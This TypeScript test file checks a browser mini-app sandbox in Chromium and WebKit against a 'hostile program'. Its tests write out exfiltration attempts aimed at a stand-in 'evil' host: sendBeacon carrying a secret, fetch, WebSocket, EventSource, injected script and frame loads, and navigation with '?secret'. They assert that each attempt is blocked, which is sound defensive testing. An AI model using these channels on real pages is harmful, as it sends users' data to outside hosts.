import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { openJourney } from './journey.js';
import { openChromium, openWebKit } from './journey-browser.js';

import type { Journey, LaunchedProgram } from './journey.js';

// WebKit has no connection allowlists.
describe.each([
  ['in Chromium', openChromium, /^chrome-error:/],
  ['in Chromium without connection allowlists', withoutAllowlists, /secret$/],
  ['in WebKit', openWebKit, /secret$/],
] as const)('a hostile program %s', (_engine, openBrowser, whereItEnds) => {
  const connectionAllowlists = openBrowser === openChromium;
  let journey: Journey;

  beforeAll(async () => {
    journey = await openJourney(openBrowser);
  });
  afterAll(async () => {
    await journey.close();
  });

  it('reaches no host outside its domains, and the allowed one', async () => {
    const api = journey.sinkUrl('api', '/');
    const evil = journey.sinkUrl('evil', '/');
    const program = await journey.launch({ manifest: { allowedDomains: [journey.sinkDomain('api')] } });
    await program.expectSign('connected');
    const outcome = await program.frame().evaluate(
      async ({ api, evil }) => {
        const { body } = document;
        const attempt = async (run: () => unknown) => {
          try {
            await run();
            return 'done';
          } catch {
            return 'refused';
          }
        };
        const add = (tag: string, attributes: Record<string, string>) => {
          const element = document.createElement(tag);
          for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
          body.append(element);
        };
        add('img', { src: `${evil}image` });
        add('script', { src: `${evil}script` });
        add('iframe', { src: `${evil}frame` });
        add('link', { rel: 'stylesheet', href: `${evil}style` });
        add('link', { rel: 'prefetch', href: `${evil}prefetch` });
        add('link', { rel: 'preconnect', href: evil });
        add('object', { data: `${evil}object` });
        add('video', { src: `${evil}video` });
        navigator.sendBeacon(`${evil}beacon`, 'secret');
        await attempt(() => new WebSocket(`${evil.replace('http', 'ws')}socket`));
        await attempt(() => new EventSource(`${evil}events`));
        add('img', { src: `${api}image` });
        await attempt(() => new WebSocket(`${api.replace('http', 'ws')}socket`));
        return {
          api: await attempt(() => fetch(`${api}fetch`)),
          evil: await attempt(() => fetch(`${evil}fetch`)),
          eval: await attempt(() => Reflect.construct(Function, ['return 1'])),
        };
      },
      { api, evil },
    );
    expect(outcome).toEqual({ api: 'done', evil: 'refused', eval: 'refused' });
    await program.settle();
    expect(journey.requestsTo('evil')).toEqual([]);
    expect([...journey.requestsTo('api')].sort()).toEqual(['/fetch', '/image', '/socket']);
  });

  it('connects to no host that it will not reach, but in WebKit, whose content policies do not govern preconnect', async () => {
    const program = await journey.launch();
    await program.expectSign('connected');
    const before = journey.sinkConnections();
    await program.frame().evaluate(
      (href) => {
        document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href }));
      },
      journey.sinkUrl('evil', '/'),
    );
    await program.settle();
    expect(journey.sinkConnections() - before).toBe(openBrowser === openWebKit ? 1 : 0);
  });

  it('cannot leave by navigating its own frame; the host unloads it', async () => {
    const program = await journey.launch();
    await program.expectSign('connected');
    await program.navigate(journey.sinkUrl('evil', '/?secret'));
    await program.expectSign(/^crashed: foreign-document: /);
    expect(journey.requestsTo('evil')).toEqual([]);
    await expect.poll(() => program.frameCount()).toBe(0);
  });

  it.each([
    ['a page of it', '/index.html?secret'],
    ['its boot page', '/__miniapp/boot?secret'],
    ['a path of nothing', '/other?secret'],
  ])('cannot hand a secret to another program by navigating to %s', async (_, path) => {
    const victim = await journey.launch({ manifest: { id: 'com.example.victim' } });
    await victim.expectSign('connected');
    const program = await journey.launch({ beside: victim });
    await program.expectSign('connected');
    await program.navigate(`${victim.origin}${path}`);
    // Either the engine stops the navigation, or the victim's origin answers it with an empty page.
    await expect.poll(() => program.frame().url()).toMatch(whereItEnds);
    await expectNoOrigin(program);
    await program.expectSign(/^crashed: foreign-document: /);
    expect(await victim.echo('still here')).toBe('echo still here');
  });

  it('finds no boot page for itself, even after it has unregistered its worker', async () => {
    const victim = await journey.launch({ manifest: { id: 'com.example.victim' } });
    await victim.expectSign('connected');
    await victim.frame().evaluate(async () => {
      await (await navigator.serviceWorker.getRegistration())?.unregister();
    });
    const program = await journey.launch({ beside: victim });
    await program.expectSign('connected');
    await program.navigate(`${victim.origin}/__miniapp/boot?secret`);
    await expect.poll(() => program.frame().url()).toMatch(whereItEnds);
    await expectNoOrigin(program);
    await program.expectSign(/^crashed: foreign-document: /);
    expect(victim.networkRequests().includes('/__miniapp/boot?secret')).toBe(!connectionAllowlists);
  });

  it('finds no window of another program, by place or by name', async () => {
    const friend = await journey.launch({ manifest: { id: 'com.example.friend' } });
    await friend.expectSign('connected');
    const program = await journey.launch({ beside: friend });
    await program.expectSign('connected');
    await friend.frame().evaluate(() => {
      window.name = 'friend';
    });
    const found = await program.frame().evaluate(() => [parent.length, open('', 'friend')]);
    expect(found).toEqual([0, null]);
  });

  it('cannot connect from a frame inside it', async () => {
    const program = await journey.launch();
    await program.expectSign('connected');
    await program.frame().evaluate(() => {
      document.body.append(document.createElement('iframe'));
    });
    const answers = await program
      .frame()
      .inner()
      .evaluate(
        () =>
          new Promise<unknown[]>((resolve) => {
            const heard: unknown[] = [];
            addEventListener('message', ({ data }) => heard.push(data));
            top?.postMessage({ miniapp: 'connect', nonce: 'nonce-inner' }, '*');
            setTimeout(resolve, 500, heard);
          }),
      );
    expect(answers).toEqual([]);
    expect((await program.signs()).filter((sign) => sign === 'connected')).toEqual(['connected']);
  });

  it('cannot run code of a worker, a page or a frame that the server or a text gives', async () => {
    const program = await journey.launch();
    await program.expectSign('connected');
    const outcome = await program.frame().evaluate(async () => {
      const register = (url: string) =>
        navigator.serviceWorker.register(url).then(
          () => 'registered',
          () => 'refused',
        );
      return [await register('/app.js'), await register('data:text/javascript,1')];
    });
    expect(outcome).toEqual(['refused', 'refused']);
  });

  it('has storage that neither the host nor another program sees', async () => {
    const first = await journey.launch({ manifest: { id: 'com.example.first' } });
    const second = await journey.launch({ manifest: { id: 'com.example.second' }, beside: first });
    await first.expectSign('connected');
    await second.expectSign('connected');
    await first.frame().evaluate(async () => {
      localStorage.setItem('secret', 'first');
      document.cookie = 'plain=first';
      document.cookie = `wide=first; domain=localhost`;
      document.cookie = `hostwide=first; domain=host.localhost`;
      await (await caches.open('mine')).put('/secret', new Response('first'));
    });
    const look = async () => ({
      local: localStorage.getItem('secret'),
      cookie: document.cookie,
      cache: (await caches.keys()).includes('mine'),
    });
    const nothing = { local: null, cookie: '', cache: false };
    expect(await second.frame().evaluate(look)).toEqual(nothing);
    expect(await first.page.evaluate(look)).toEqual(nothing);
  });
});

function withoutAllowlists(): ReturnType<typeof openChromium> {
  return openChromium({ connectionAllowlists: false });
}

/** The frame holds a document without an origin, so no program can look into it, at its URL least of all. */
async function expectNoOrigin(program: LaunchedProgram): Promise<void> {
  expect(await program.frame().evaluate(() => self.origin)).toBe('null');
}
